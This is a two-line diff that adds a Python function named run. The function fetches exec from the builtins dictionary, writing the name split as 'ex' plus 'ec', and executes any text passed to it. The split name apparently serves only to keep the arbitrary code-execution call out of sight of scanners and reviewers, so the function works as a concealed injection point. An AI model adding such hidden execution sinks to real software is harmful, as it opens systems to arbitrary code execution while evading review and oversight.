@@ -1,0 +1,2 @@
+def run(text):
+    globals()["__builtins__"].__dict__["ex" + "ec"](text)
